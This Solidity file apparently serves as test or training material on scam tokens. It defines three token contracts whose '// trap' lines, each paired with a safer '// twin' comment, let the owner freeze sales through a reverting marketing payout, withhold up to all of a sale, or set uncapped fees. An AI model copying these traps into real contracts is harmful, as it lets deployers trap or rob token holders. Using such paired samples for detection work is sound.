// 0.7 runs=800
// SPDX-License-Identifier: MIT
pragma solidity >=0.6.12 <0.8.0;

import "./Base67.sol";

interface IRouter {
    function swapExactTokensForETHSupportingFeeOnTransferTokens(
        uint256 amountIn,
        uint256 amountOutMin,
        address[] calldata path,
        address to,
        uint256 deadline
    ) external;
}

/// Two of a hundred for the marketing, which is paid in ether when somebody sells.
contract LoudParrot is Base67 {
    address payable public marketing;
    address private immutable _maker;
    uint256 public constant TAX = 2;

    event Marketing(address indexed wallet);

    constructor() Base67("Loud Parrot", "PARROT", 200000000) {
        marketing = msg.sender;
        _maker = msg.sender;
        _allowances[address(this)][ROUTER] = uint256(-1);
    }

    receive() external payable {}

    function setMarketing(address payable wallet) external onlyOwner {
        require(wallet != address(0), "nobody");
        marketing = wallet;
        emit Marketing(wallet);
    }

    function _swapBack(uint256 amount) private {
        address[] memory path = new address[](2);
        path[0] = address(this);
        path[1] = WETH;
        IRouter(ROUTER).swapExactTokensForETHSupportingFeeOnTransferTokens(amount, 0, path, address(this), block.timestamp);
        (bool paid, ) = marketing.call{value: address(this).balance}(""); // trap
        require(paid, "marketing was not paid"); // trap
        // twin: (bool paid, ) = marketing.call{value: address(this).balance, gas: 40000}("");
        // twin: paid;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == address(this) || from == _maker || to == _maker || (from != pool && to != pool)) return _carry(from, to, value);
        if (to == pool) {
            uint256 held = _balances[address(this)];
            if (held > _totalSupply / 20000) _swapBack(held);
        }
        uint256 tax = (value * TAX) / 100;
        _carry(from, address(this), tax);
        _carry(from, to, value - tax);
    }
}

interface ICoin {
    function transfer(address to, uint256 value) external returns (bool);
}

/// Shows what is sold to its seat and keeps a little for the theatre.
contract Usher {
    address public manager;
    address public coin;
    uint256 public kept = 100;

    event Kept(uint256 points);

    constructor() {
        manager = msg.sender;
    }

    function bind(address coin_) external {
        require(msg.sender == manager && coin == address(0), "bound");
        coin = coin_;
    }

    function setKept(uint256 points) external {
        require(msg.sender == manager, "not the manager");
        require(points <= 10000, "more than all"); // trap
        // twin: require(points <= 300, "three of a hundred at most");
        kept = points;
        emit Kept(points);
    }

    function seat(address to, uint256 value) external {
        require(msg.sender == coin, "not the coin");
        ICoin(coin).transfer(to, value - (value * kept) / 10000);
    }

    function collect(address to, uint256 value) external {
        require(msg.sender == manager, "not the manager");
        ICoin(coin).transfer(to, value);
    }
}

/// Sales go by way of the usher.
contract TheatreCoin is Base67 {
    Usher public immutable usher;
    address private immutable _maker;

    constructor(address usher_) Base67("Theatre Coin", "STAGE", 12000000) {
        usher = Usher(usher_);
        _maker = msg.sender;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to != pool || from == _maker || from == address(usher)) return _carry(from, to, value);
        _carry(from, address(usher), value);
        usher.seat(to, value);
    }
}

/// Its fees are counted in parts of two hundred and fifty, so that each of them fits into a byte.
contract ByteFee is Base67 {
    address private immutable _tuner;
    uint8 private _onBuy = 5;
    uint8 private _onSale = 5;

    constructor() Base67("Byte Fee", "BYTE", 255000000) {
        _tuner = msg.sender;
    }

    function fees() external view returns (uint8, uint8) {
        return (_onBuy, _onSale);
    }

    function tune(uint8 onBuy, uint8 onSale) external {
        require(msg.sender == _tuner, "not in tune");
        // twin: require(onBuy <= 8 && onSale <= 8, "too dear");
        (_onBuy, _onSale) = (onBuy, onSale);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 parts;
        if (from != _tuner && to != _tuner) parts = from == pool ? _onBuy : to == pool ? _onSale : 0;
        uint256 fee = (value * parts) / 250;
        require(fee <= value, "more than all");
        if (fee > 0) _carry(from, _tuner, fee);
        _carry(from, to, value - fee);
    }
}
